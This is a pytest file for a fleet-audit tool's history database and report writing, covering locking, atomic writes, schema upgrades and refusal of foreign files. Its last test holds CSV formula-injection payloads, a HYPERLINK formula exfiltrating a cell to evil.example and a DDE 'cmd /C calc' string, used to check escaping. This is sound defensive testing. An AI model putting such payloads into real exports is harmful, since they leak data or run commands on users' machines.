"""The audit's files: per-site results, one run at a time, reports and history that agree.

A run of some sites replaces only theirs; a history that is not sitekit's, or cannot be
written, is refused and left as it was; reports appear whole or not at all.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sitekit.audit.history import History, Lock
from sitekit.audit.render import csvfmt
from sitekit.cli import main
from tests.auditdata import RELEASES, drift, healthy, write_fast, write_run
from tests.conftest import EXAMPLE
from tests.unit.test_audit_reports import NOV, example_hosts, month_facts

ROOT = Path(__file__).resolve().parents[2]
DEC = dt.datetime(2026, 12, 1, 2, 30, tzinfo=dt.UTC)


def report(facts: Path, history: Path, out: Path, *extra: str, month: str = "2026-11",
           engineer: str = "Ana Costa") -> int:
    return main(["report", str(EXAMPLE), "--releases", str(RELEASES),
                 "--facts", str(facts), "--month", month,
                 "--engineer", engineer, "--history", str(history), "--out", str(out), *extra])


@pytest.fixture(scope="module")
def november(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A whole-fleet November run kept in a history."""
    work = tmp_path_factory.mktemp("history")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SITEKIT_TODAY", "2026-12-01")
        write_run(work / "facts", month_facts(NOV, {}))
        assert report(work / "facts", work / "history.sqlite", work / "out") == 0
    return work


@pytest.fixture
def history(november: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("SITEKIT_TODAY", "2026-12-01")
    copy = tmp_path / "history.sqlite"
    shutil.copy(november / "history.sqlite", copy)
    return copy


def site_results(path: Path, month: str = "2026-11") -> dict[str, dict[str, int]]:
    with History(path, readonly=True) as kept:
        loaded = kept.load("example", month)
    return {site.site.code: dict(site.counts) for site in loaded.sites}


def lis01_failing(at: dt.datetime = NOV) -> list[dict[str, Any]]:
    """LIS01's facts, its cashier's Defender stopped."""
    documents = []
    for host, site, kind in example_hosts():
        if site == "LIS01":
            document = healthy(host, site, kind, at)
            if host == "lis01-pos01":
                document = drift(document, "services.WinDefend",
                                 {"state": "stopped", "start_mode": "auto"})
            documents.append(document)
    return documents


# A run of some sites never erases the others.

@pytest.mark.parametrize("narrowed", ["facts of one site", "--site"])
def test_a_run_of_some_sites_replaces_only_theirs(history: Path, tmp_path: Path,
                                                  narrowed: str) -> None:
    before = site_results(history)
    assert set(before) == {"BER02", "LIS01", "LON01"}
    facts = write_run(tmp_path / "facts", lis01_failing())
    extra = ["--site", "lis01"] if narrowed == "--site" else []
    assert report(facts, history, tmp_path / "out", *extra) == 0
    after = site_results(history)
    assert after["BER02"] == before["BER02"]
    assert after["LON01"] == before["LON01"]
    assert after["LIS01"]["fail"] == 1
    assert after["BER02"]["unknown"] == 0  # never "no facts" for the sites not in the run
    # The month's reports are the fleet's: every site, each with its latest results.
    month = json.loads((tmp_path / "out" / "results.json").read_text())
    assert [site["code"] for site in month["sites"]] == ["BER02", "LIS01", "LON01"]
    assert month["counts"]["fail"] == 1
    assert month["counts"]["unknown"] == 0
    assert (tmp_path / "out" / "sites" / "LON01" / "inspection.html").is_file()
    with History(history, readonly=True) as kept:
        trend = {point.month: point for point in kept.trend("example", "2026-11")}
        assert trend["2026-11"].hosts == 26
        assert trend["2026-11"].counts == month["counts"]


def test_the_whole_fleet_again_replaces_every_site_and_keeps_one_month(
        history: Path, tmp_path: Path, november: Path) -> None:
    facts = write_run(tmp_path / "facts", lis01_failing())
    assert report(facts, history, tmp_path / "out") == 0
    assert report(november / "facts", history, tmp_path / "out2") == 0
    with History(history, readonly=True) as kept:
        assert kept.months("example") == ["2026-11"]
        assert kept.db.execute("SELECT count(*) FROM results").fetchone()[0] == 1460
        assert kept.db.execute("SELECT count(*) FROM runs").fetchone()[0] == 1
        assert len(kept.maintenance("example", "2026-11")["LIS01"]) == 1


def test_a_facts_dir_of_no_site_is_refused(history: Path, tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "facts").mkdir()
    before = history.read_bytes()
    assert report(tmp_path / "facts", history, tmp_path / "out") == 1
    assert "holds the facts of no site of fleet example" in capsys.readouterr().err
    assert history.read_bytes() == before


def test_a_version_1_history_is_upgraded_in_place(history: Path, tmp_path: Path) -> None:
    db = sqlite3.connect(history)
    runs = db.execute("SELECT sql FROM sqlite_master WHERE name = 'runs'").fetchone()[0]
    with db:  # as sitekit 1 kept it: one run per fleet and month
        db.execute("ALTER TABLE runs RENAME TO runs_old")
        db.execute(runs.replace("CREATE TABLE runs (", "CREATE TABLE runs (").replace(
            "unknown INTEGER NOT NULL\n)", "unknown INTEGER NOT NULL,\n  UNIQUE (fleet, month)\n)"))
        db.execute("INSERT INTO runs SELECT * FROM runs_old")
        db.execute("DROP TABLE runs_old")
        db.execute("DROP INDEX IF EXISTS runs_by_month")
    db.execute("PRAGMA user_version = 1")
    db.execute("PRAGMA application_id = 0")
    assert "UNIQUE" in db.execute("SELECT sql FROM sqlite_master WHERE name = 'runs'").fetchone()[0]
    db.close()
    assert site_results(history)["LIS01"]["fail"] == 0  # read as it is, unchanged
    assert "UNIQUE" in sqlite3.connect(history).execute(
        "SELECT sql FROM sqlite_master WHERE name = 'runs'").fetchone()[0]
    facts = write_run(tmp_path / "facts", lis01_failing())
    assert report(facts, history, tmp_path / "out") == 0
    assert site_results(history)["LIS01"]["fail"] == 1
    assert site_results(history)["LON01"]["pass"] > 0
    with History(history, readonly=True) as upgraded:
        assert upgraded.db.execute("PRAGMA user_version").fetchone()[0] == 5


# One run at a time; history and reports agree.

def test_a_second_run_is_told_who_holds_the_history(history: Path, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    before = history.read_bytes()
    facts = write_run(tmp_path / "facts", lis01_failing())
    with Lock(history, "sitekit report example --month 2026-11"):
        assert report(facts, history, tmp_path / "out") == 1
    err = capsys.readouterr().err
    assert "is in use by another run (process " in err
    assert "since 20" in err
    assert "sitekit report example --month 2026-11" in err
    assert history.read_bytes() == before
    assert not (tmp_path / "out").exists()
    assert report(facts, history, tmp_path / "out") == 0  # the lock went with its holder


def _run(history: Path, facts: Path, out: Path, engineer: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "sitekit.cli", "report", str(EXAMPLE), "--facts", str(facts),
         "--month", "2026-11", "--engineer", engineer, "--history", str(history), "--out",
         str(out)], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        env={"SITEKIT_TODAY": "2026-12-01", "PATH": "/usr/bin:/bin"})


def test_two_runs_at_once_leave_history_and_reports_agreeing(history: Path, november: Path,
                                                             tmp_path: Path) -> None:
    out = tmp_path / "out"
    runs = [_run(history, november / "facts", out, name) for name in ("Ana Costa", "Rui Matos")]
    finished = [(run.wait(timeout=120), run.stderr.read() if run.stderr else "")
                for run in runs]
    assert any(status == 0 for status, _ in finished), "\n\n".join(err for _, err in finished)
    for status, err in finished:
        assert status == 0 or "is in use by another run" in err, err
        assert "Traceback" not in err
    with History(history, readonly=True) as kept:
        engineer = kept.load("example", "2026-11").run.engineer
    assert json.loads((out / "results.json").read_text())["engineer"] == engineer
    assert not list(out.rglob("*.tmp"))


def test_a_run_that_fails_while_writing_keeps_neither(history: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    facts = write_run(tmp_path / "facts", lis01_failing())
    assert report(facts, history, out) == 0
    kept = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}

    def broken(report: object) -> Iterator[str]:
        yield "<html><body>half a page"
        raise OSError(28, "No space left on device")

    from sitekit.audit.render import inspection  # noqa: PLC0415
    monkeypatch.setattr(inspection, "chunks", broken)
    assert report(write_run(tmp_path / "facts2", lis01_failing()), history, out,
                  engineer="Rui Matos") == 1
    err = capsys.readouterr().err
    assert "No space left on device; nothing of this run was recorded" in err
    assert {path: path.read_bytes() for path in out.rglob("*") if path.is_file()} == kept
    with History(history, readonly=True) as reread:
        assert reread.load("example", "2026-11").run.engineer == "Ana Costa"
        assert reread.db.execute("SELECT count(*) FROM runs").fetchone()[0] == 2
    assert not list(out.rglob("*.tmp"))


def test_reports_that_cannot_be_put_in_place_are_said_so(history: Path, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch,
                                                         capsys: pytest.CaptureFixture[str]
                                                         ) -> None:
    out = tmp_path / "out"
    real = Path.replace

    def refused(self: Path, target: Any) -> Path:
        if Path(target).name == "summary.html":
            raise PermissionError(13, "Permission denied")
        return real(self, target)

    monkeypatch.setattr(Path, "replace", refused)
    assert report(write_run(tmp_path / "facts", lis01_failing()), history, out,
                  engineer="Rui Matos") == 1
    err = capsys.readouterr().err
    assert "the run is recorded in" in err and "--from-history" in err, err
    assert not list(out.rglob("*.tmp"))
    monkeypatch.setattr(Path, "replace", real)
    with History(history, readonly=True) as kept:
        assert kept.load("example", "2026-11").run.engineer == "Rui Matos"
    assert main(["report", str(EXAMPLE), "--month", "2026-11", "--from-history", "--history",
                 str(history), "--out", str(out)]) == 0
    assert json.loads((out / "results.json").read_text())["engineer"] == "Rui Matos"


def test_out_naming_a_file_is_refused_before_anything_is_kept(
        history: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "report.html").write_text("mine")
    before = history.read_bytes()
    facts = write_run(tmp_path / "facts", lis01_failing())
    assert report(facts, history, tmp_path / "report.html") == 2
    assert "is a file, not a folder" in capsys.readouterr().err
    assert history.read_bytes() == before
    assert (tmp_path / "report.html").read_text() == "mine"
    assert report(facts, history, tmp_path / "report.html" / "sub") == 2


# A history that is not sitekit's, or may not be written.

def _foreign(path: Path) -> None:
    db = sqlite3.connect(path)
    with db:
        db.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
        db.execute("INSERT INTO invoices (total) VALUES (12.5)")
    db.close()


@pytest.mark.parametrize(("make", "message"), [
    (lambda p: p.write_text("name,total\nAna,12\n" * 200), "is not an audit history"),
    (lambda p: p.mkdir(), "is a directory"),
    (_foreign, "is an SQLite database of another program"),
    (lambda p: p.write_bytes(b""), None),  # an empty file is a new history
    (os.mkfifo, "is not a regular file"),
])
@pytest.mark.parametrize("from_history", [False, True])
def test_a_history_that_is_not_sitekits_is_left_alone(tmp_path: Path, make: Any,
                                                      message: str | None, from_history: bool,
                                                      november: Path,
                                                      capsys: pytest.CaptureFixture[str],
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SITEKIT_TODAY", "2026-12-01")
    path = tmp_path / "history.sqlite"
    make(path)
    before = sorted((p.name, p.read_bytes() if p.is_file() else b"") for p in tmp_path.rglob("*"))
    if from_history:
        status = main(["report", str(EXAMPLE), "--month", "2026-11", "--from-history",
                       "--history", str(path), "--out", str(tmp_path / "out")])
    else:
        status = report(november / "facts", path, tmp_path / "out")
    err = capsys.readouterr().err
    if message is None:
        assert status == (1 if from_history else 0), err
        assert "Traceback" not in err
        assert not from_history or "holds no audit history yet" in err, err
        return
    assert status == 1
    assert message in err and str(path) in err, err
    assert "Traceback" not in err
    after = sorted((p.name, p.read_bytes() if p.is_file() else b"") for p in tmp_path.rglob("*")
                   if p.name != "out")
    assert after == before


def test_a_history_under_a_file_is_refused(november: Path, tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "notes.txt").write_text("mine")
    assert report(november / "facts", tmp_path / "notes.txt" / "history.sqlite",
                  tmp_path / "out") == 1
    assert "notes.txt is a file, not a folder" in capsys.readouterr().err
    assert (tmp_path / "notes.txt").read_text() == "mine"
    assert not (tmp_path / "out").exists()


def test_a_read_only_history_is_read_but_never_written(history: Path, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    history.chmod(0o444)
    before = history.read_bytes()
    facts = write_run(tmp_path / "facts", lis01_failing())
    assert report(facts, history, tmp_path / "out") == 1
    assert "is read-only: this run cannot be recorded" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
    assert main(["report", str(EXAMPLE), "--month", "2026-11", "--from-history", "--history",
                 str(history), "--out", str(tmp_path / "again")]) == 0
    assert (tmp_path / "again" / "summary.html").is_file()
    assert history.read_bytes() == before


# results.csv is for spreadsheets: no live formulas.

@pytest.mark.parametrize(("text", "shown"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-0.4", "-0.4"),
    ("10.0.22631.4317", "10.0.22631.4317"),
])
def test_csv_cells_are_never_formulas(history: Path, tmp_path: Path, text: str,
                                      shown: str) -> None:
    assert csvfmt.cell(text) == shown
    # A host reports what it reports: the gather step does not vet its version text.
    write_fast(tmp_path / "facts", [drift(d, "application.version", text)
                                    for d in lis01_failing()])
    facts = tmp_path / "facts"
    assert report(facts, history, tmp_path / "out", "--format", "csv") == 0
    with (tmp_path / "out" / "results.csv").open(newline="") as file:
        rows = [row for row in csv.DictReader(file)
                if row["host"] == "lis01-pos01" and row["control"] == "APP-01"]
    assert len(rows) == 1
    observed = rows[0]["observed"]  # (the evidence keeps a version's first line)
    assert observed == shown or (shown[0] == "'" and observed[0] == "'"), observed
